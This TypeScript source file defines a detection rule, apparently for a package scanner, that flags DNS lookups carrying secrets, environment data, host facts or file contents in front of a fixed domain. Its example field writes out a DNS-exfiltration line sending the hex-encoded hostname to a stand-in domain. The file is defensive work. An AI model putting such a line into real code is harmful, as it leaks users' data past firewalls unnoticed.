import type { Rule } from "../rule.ts";
import { flowsOf, named, placeOf } from "../view.ts";
import { HOLE, textsOf } from "../../program/value.ts";

export const sendsByDns: Rule = {
  id: "sends-by-dns",
  title: "Hides data in the names it looks up",
  why:
    "A name server learns every name that is asked for below its domain. Data put in front of a fixed " +
    "domain leaves through firewalls that let nothing else out.",
  example: 'dns.lookup(Buffer.from(os.hostname()).toString("hex") + ".collect.invalid", () => {});',
  advice: "Do not install it; look in your name server's log for the domain.",
  severity: "high",
  confidence: "medium",
  look: (view) =>
    view.program.uses.flatMap((use) => {
      const [name] = use.args;
      if (use.spec?.capability !== "dns-lookup" || name === undefined) return [];
      const data = flowsOf(
        use, "secret", "whole-environment", "environment", "host-facts", "file", "command-output", "encoded",
      ); // prettier-ignore
      const domain = textsOf(name).find((text) => text.startsWith(HOLE) && DOMAIN.test(text));
      if (data.length === 0 || domain === undefined) return [];
      const message = `${named(data)}: looked up in front of ${domain.slice(HOLE.length)}.`;
      return [{ place: placeOf(use), message }];
    }),
};

/** Some data, then a domain that is written out. */
const DOMAIN = /^…[^/]*\.[\w-]+\.[a-z]{2,}$/i;
